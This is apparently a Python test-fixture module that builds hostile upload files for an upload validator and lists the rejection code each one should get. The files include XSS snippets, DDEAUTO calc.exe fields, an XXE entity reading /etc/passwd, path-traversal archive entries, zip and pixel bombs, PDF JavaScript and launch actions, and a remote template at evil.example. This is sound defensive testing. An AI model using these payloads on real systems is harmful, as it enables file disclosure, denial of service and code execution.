"""The hostile files: what each is called, how it is made, and the code with which it is refused."""

from collections.abc import Callable
from typing import NamedTuple

import pikepdf

from tests.core.uploads import archives_made as archives
from tests.core.uploads import documents_made as documents
from tests.core.uploads.archives_made import (
    DOCX_MAIN,
    XLSX_MAIN,
    content_types,
    document,
    docx,
    relations,
    xlsx,
    zipped,
)
from tests.core.uploads.documents_made import image, pdf, png_bomb

SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
HTML = b"<!DOCTYPE html><script>alert(1)</script>"
COMPOUND = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000)


class Hostile(NamedTuple):
    title: str
    name: str
    make: Callable[[], bytes]
    code: str


def fields(*runs: str) -> bytes:
    body = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    return docx({"word/document.xml": document(f"<w:p>{body}</w:p>")})


def outside(kind: str) -> bytes:
    target = relations((kind, "https://evil.example/x.dotm", "External"))
    return docx({"word/_rels/settings.xml.rels": target})


def escaped_name() -> bytes:
    return pdf(documents.script_far_inside).replace(b"/JavaScript", b"/Java#53cript")


WRONG_KIND = [
    Hostile("svg", "a.svg", lambda: SVG, "kind_not_allowed"),
    Hostile("html", "a.html", lambda: HTML, "kind_not_allowed"),
    Hostile("script", "a.js", lambda: b"alert(1)", "kind_not_allowed"),
    Hostile("archive", "a.zip", lambda: zipped([("a", "b")]), "kind_not_allowed"),
    Hostile("program behind a pdf name", "report.pdf.exe", lambda: b"MZ", "kind_not_allowed"),
    Hostile("no extension", "report", pdf, "kind_not_allowed"),
    Hostile("macro document by name", "a.docm", docx, "kind_not_allowed"),
    Hostile("name that reads backwards", "a\u202efdp.docx", docx, "bad_name"),
    Hostile("name with a path", "../../a.pdf", pdf, "bad_name"),
    Hostile("name with a newline", "a\r\nb.pdf", pdf, "bad_name"),
    Hostile("endless name", "a" * 300 + ".pdf", pdf, "bad_name"),
    Hostile("nothing", "a.pdf", lambda: b"", "empty"),
    Hostile("svg as png", "a.png", lambda: SVG, "content_mismatch"),
    Hostile("gif as png", "a.png", lambda: image("GIF", "L"), "content_mismatch"),
    Hostile("wave as webp", "a.webp", lambda: b"RIFF\x04\x00\x00\x00WAVE", "content_mismatch"),
    Hostile("html as pdf", "a.pdf", lambda: HTML, "content_mismatch"),
    Hostile("html before a pdf", "a.pdf", lambda: HTML + pdf(), "content_mismatch"),
    Hostile("html as csv", "a.csv", lambda: b"\xef\xbb\xbf \r\n" + HTML, "content_mismatch"),
    Hostile("html in utf-16 as csv", "a.csv", lambda: HTML.decode().encode("utf-16"), "content_mismatch"),
    Hostile("program as csv", "a.csv", lambda: b"MZ\x90", "content_mismatch"),
    Hostile("binary as csv", "a.csv", lambda: b"a,b\n" * 1000 + b"\x00\x01", "content_mismatch"),
    Hostile("archive as docx", "a.docx", lambda: zipped([("a", "b")]), "content_mismatch"),
    Hostile("workbook as docx", "a.docx", xlsx, "content_mismatch"),
    Hostile("pdf as docx", "a.docx", pdf, "content_mismatch"),
]

POLYGLOTS = [
    Hostile("pdf and zip", "a.pdf", lambda: pdf() + zipped([("a", "b")]), "polyglot"),
    Hostile("jpeg and zip", "a.jpg", lambda: image("JPEG") + zipped([("a", "b")]), "polyglot"),
    Hostile(
        "jpeg and script", "a.jpg", lambda: image("JPEG", comment=b"<script>alert(1)</script>"), "polyglot"
    ),
    Hostile("pdf and html", "a.pdf", lambda: pdf()[:9] + b"%" + HTML + b"\n" + pdf()[9:], "polyglot"),
    Hostile("docx and pdf", "a.docx", lambda: zipped([("%PDF-1.7", pdf())]), "polyglot"),
    Hostile("csv and pdf", "a.csv", lambda: b"a,b\n" + pdf(), "polyglot"),
    Hostile("docx with something after it", "a.docx", lambda: docx() + b"#!/bin/sh\n", "polyglot"),
    Hostile(
        "docx with something inside it",
        "a.docx",
        lambda: docx()[:-22].replace(b"PK\x01\x02", b"#!/bin/sh\nPK\x01\x02", 1) + docx()[-22:],
        "polyglot",
    ),
]

ARCHIVES = [
    Hostile("garbage", "a.docx", lambda: b"PK\x03\x04garbage", "unreadable"),
    Hostile("zip bomb", "a.docx", lambda: docx({"word/media/a.bmp": bytes(150_000_000)}), "archive_bomb"),
    Hostile(
        "two thousand parts",
        "a.docx",
        lambda: docx({f"word/{n}.xml": "" for n in range(2_100)}),
        "archive_bomb",
    ),
    Hostile(
        "fifty thousand parts", "a.xlsx", lambda: zipped((f"{n}", "") for n in range(50_000)), "archive_bomb"
    ),
    Hostile("parts that share bytes", "a.docx", archives.overlapping, "archive_bomb"),
    Hostile("part larger than it says", "a.docx", archives.understated, "unreadable"),
    Hostile("way out", "a.docx", lambda: docx({"word/../../../etc/passwd": "x"}), "archive_path"),
    Hostile("way out with backslashes", "a.docx", lambda: docx({"word\\..\\..\\x": "x"}), "archive_path"),
    Hostile("absolute path", "a.docx", lambda: docx({"/etc/passwd": "x"}), "archive_path"),
    Hostile("drive letter", "a.docx", lambda: docx({"C:/x.xml": "<x/>"}), "archive_path"),
    Hostile(
        "symbolic link",
        "a.docx",
        lambda: docx(extra=[(archives.link("word/l"), "/etc/passwd")]),
        "archive_link",
    ),
    Hostile("locked parts", "a.docx", archives.locked, "encrypted"),
    Hostile("password", "a.docx", lambda: COMPOUND, "encrypted"),
]

OFFICE = [
    Hostile("macros", "a.docx", lambda: docx({"word/vbaProject.bin": b"x"}), "macro"),
    Hostile(
        "macro document renamed",
        "a.docx",
        lambda: docx(
            {"[Content_Types].xml": content_types("application/vnd.ms-word.document.macroEnabled.main+xml")}
        ),
        "macro",
    ),
    Hostile(
        "macro part under another name",
        "a.docx",
        lambda: docx(
            {"[Content_Types].xml": content_types(DOCX_MAIN, "application/vnd.ms-office.vbaProject")}
        ),
        "macro",
    ),
    Hostile("macro sheet", "a.xlsx", lambda: xlsx({"xl/macrosheets/sheet1.xml": "<x/>"}), "macro"),
    Hostile(
        "macro sheet under another name",
        "a.xlsx",
        lambda: xlsx(
            {"[Content_Types].xml": content_types(XLSX_MAIN, "application/vnd.ms-excel.macrosheet+xml")}
        ),
        "macro",
    ),
    Hostile("control", "a.docx", lambda: docx({"word/activeX/activeX1.xml": "<x/>"}), "macro"),
    Hostile(
        "embedded object", "a.docx", lambda: docx({"word/embeddings/oleObject1.bin": b"x"}), "embedded_file"
    ),
    Hostile("embedded program", "a.docx", lambda: docx({"word/embeddings/a.exe": b"MZ"}), "embedded_file"),
    Hostile("binary part", "a.xlsx", lambda: xlsx({"xl/any.bin": b"x"}), "embedded_file"),
    Hostile("template from outside", "a.docx", lambda: outside("attachedTemplate"), "external_content"),
    Hostile("picture from outside", "a.docx", lambda: outside("image"), "external_content"),
    Hostile("exchange field", "a.docx", lambda: fields("DDEAUTO c:\\\\calc.exe"), "active_content"),
    Hostile(
        "exchange field in pieces",
        "a.docx",
        lambda: fields("D", "DE", "AUTO c:\\\\calc.exe"),
        "active_content",
    ),
    Hostile(
        "exchange link",
        "a.xlsx",
        lambda: xlsx({"xl/externalLinks/externalLink1.xml": '<x:ddeLink xmlns:x="x" ddeService="cmd"/>'}),
        "active_content",
    ),
    Hostile(
        "billion laughs",
        "a.xlsx",
        lambda: xlsx({"xl/sharedStrings.xml": archives.billion_laughs()}),
        "xml_entities",
    ),
    Hostile(
        "billion laughs in utf-16",
        "a.xlsx",
        lambda: xlsx({"xl/styles.xml": archives.billion_laughs().encode("utf-16")}),
        "xml_entities",
    ),
    Hostile(
        "file from the server",
        "a.docx",
        lambda: docx({"word/a.xml": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'}),
        "xml_entities",
    ),
    Hostile(
        "deep nesting",
        "a.docx",
        lambda: docx({"word/a.xml": "<a>" * 100_000 + "</a>" * 100_000}),
        "xml_depth",
    ),
    Hostile("broken part", "a.docx", lambda: docx({"word/document.xml": "<w:document"}), "unreadable"),
]

IMAGES = [
    Hostile("pixel bomb", "a.png", lambda: png_bomb(100_000, 100_000), "too_many_pixels"),
    Hostile("pixel bomb just above the limit", "a.png", lambda: png_bomb(8_000, 5_001), "too_many_pixels"),
    Hostile("pixel bomb in jpeg", "a.jpg", documents.jpeg_bomb, "too_many_pixels"),
    Hostile("pixel bomb in webp", "a.webp", documents.webp_bomb, "too_many_pixels"),
    Hostile("thousands of scans", "a.jpg", documents.jpeg_of_many_scans, "too_complex"),
    Hostile("image cut short", "a.png", lambda: image("PNG", size=(400, 400))[:200], "unreadable"),
    Hostile("image without content", "a.png", lambda: png_bomb(10, 10), "unreadable"),
    Hostile("header only", "a.jpg", lambda: b"\xff\xd8\xff\xe0", "unreadable"),
]

PDFS = [
    Hostile("script in the catalog", "a.pdf", lambda: pdf(documents.script_in_catalog), "active_content"),
    Hostile("script in the names", "a.pdf", lambda: pdf(documents.script_in_names), "active_content"),
    Hostile(
        "script in arrays in a dictionary",
        "a.pdf",
        lambda: pdf(documents.script_far_inside),
        "active_content",
    ),
    Hostile("script in a stream", "a.pdf", lambda: pdf(documents.script_as_stream), "active_content"),
    Hostile("script under an escaped name", "a.pdf", escaped_name, "active_content"),
    Hostile("program to launch", "a.pdf", lambda: pdf(documents.launch), "active_content"),
    Hostile("address opened by itself", "a.pdf", lambda: pdf(documents.calls_home), "active_content"),
    Hostile("action on a page", "a.pdf", lambda: pdf(documents.on_page_open), "active_content"),
    Hostile("dynamic form", "a.pdf", lambda: pdf(documents.form_of_the_other_kind), "active_content"),
    Hostile("film", "a.pdf", lambda: pdf(documents.film), "active_content"),
    Hostile(
        "script in a compressed object",
        "a.pdf",
        lambda: documents.pdf_by_hand(documents.CATALOG, b"<< /S /JavaScript /JS (app.alert(1)) >>"),
        "active_content",
    ),
    Hostile(
        "script behind endless spaces",
        "a.pdf",
        lambda: documents.pdf_by_hand(documents.CATALOG, b"<< /S /JavaScript >>", padding=120_000_000),
        "too_complex",
    ),
    Hostile(
        "script in an object that cannot be read",
        "a.pdf",
        lambda: documents.pdf_by_hand(documents.CATALOG, b"<< /S /JavaScript /JS (app.alert(1) >>"),
        "unreadable",
    ),
    Hostile("attachment", "a.pdf", lambda: pdf(documents.attachment), "embedded_file"),
    Hostile(
        "password",
        "a.pdf",
        lambda: pdf(encryption=pikepdf.Encryption(owner="secret", user="secret")),
        "encrypted",
    ),
    Hostile(
        "printing forbidden", "a.pdf", lambda: pdf(encryption=pikepdf.Encryption(owner="secret")), "encrypted"
    ),
    Hostile("two thousand pages", "a.pdf", lambda: pdf(pages=2_001), "too_many_pages"),
    Hostile("nested arrays", "a.pdf", lambda: pdf(documents.nested), "too_complex"),
    Hostile("no pages", "a.pdf", lambda: pdf(pages=0), "unreadable"),
    Hostile("garbage", "a.pdf", lambda: b"%PDF-1.7\n" + b"garbage" * 100, "unreadable"),
]

CORPUS = [*WRONG_KIND, *POLYGLOTS, *ARCHIVES, *OFFICE, *IMAGES, *PDFS]
